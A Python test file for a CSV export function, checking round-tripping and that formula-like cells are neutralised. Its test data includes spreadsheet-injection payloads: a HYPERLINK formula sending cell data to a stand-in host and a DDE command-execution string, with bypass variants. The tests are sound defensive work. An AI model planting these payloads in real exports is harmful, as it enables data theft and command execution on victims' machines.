"""Tables as CSV: read back as they were, and nothing in them runs in a spreadsheet."""

import csv
import io

import pytest

from foundation.spreadsheets import rows_as_csv

HEADER = ["id", "credits", "reason"]


def text_of(rows):
    return "".join(rows_as_csv(HEADER, rows))


def read_back(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def cell(value):
    """What a reader finds where the value was written."""
    header, row = read_back(text_of([["txn_1", 5, value]]))
    assert (header, row[:2]) == (HEADER, ["txn_1", "5"])
    return row[2]


def test_lines_end_as_the_standard_says():
    assert text_of([["txn_1", -5, None]]) == "id,credits,reason\r\ntxn_1,-5,\r\n"


def test_without_rows_there_is_a_header():
    assert text_of([]) == "id,credits,reason\r\n"


@pytest.mark.parametrize("number", [0, 5, -5, 10**18, -(10**18)])
def test_integers_are_numbers_that_a_spreadsheet_can_count(number):
    assert cell(number) == str(number)
    assert f",{number}\r\n" in text_of([["txn_1", 5, number]])


@pytest.mark.parametrize(
    "text",
    [
        "Goodwill",
        "a=b",
        "5 - 3",
        "a@b.example",
        "Zoë, ☃",
        'She said "no", twice',
        "one\ntwo",
        "one\r\ntwo",
        "'quoted'",
        "",
        "1;2",
        "\N{MINUS SIGN}5",
    ],
)
def test_plain_text_is_read_back_as_it_was(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "=cmd|'/c calc'!A0",
        "+1+1",
        "-1+1",
        "-5",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "\tharmless",
        " =1+1",
        "   @SUM(1)",
        "\N{NO-BREAK SPACE}=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "=",
        "=1\r\n=2",
        '","=1+1',
        '"\r\n=1+1',
    ],
)
def test_text_that_could_run_does_not(hostile):
    found = cell(hostile)
    # Either it is marked as text, or it begins with what nothing takes for a formula.
    assert found in (f"'{hostile}", hostile)
    assert (found == hostile) == hostile.startswith('"')


def test_a_headline_is_made_harmless_too():
    assert next(rows_as_csv(["=1+1"], [])) == "'=1+1\r\n"


def test_rows_are_taken_as_they_are_sent():
    taken = []

    def rows():
        for number in range(5000):
            taken.append(number)
            yield [f"txn_{number}", number, "Goodwill"]

    pieces = rows_as_csv(HEADER, rows())
    assert len(next(pieces)) < 20_000
    assert len(taken) < 1500
    rest = "".join(pieces)
    assert len(taken) == 5000
    assert rest.endswith("txn_4999,4999,Goodwill\r\n")
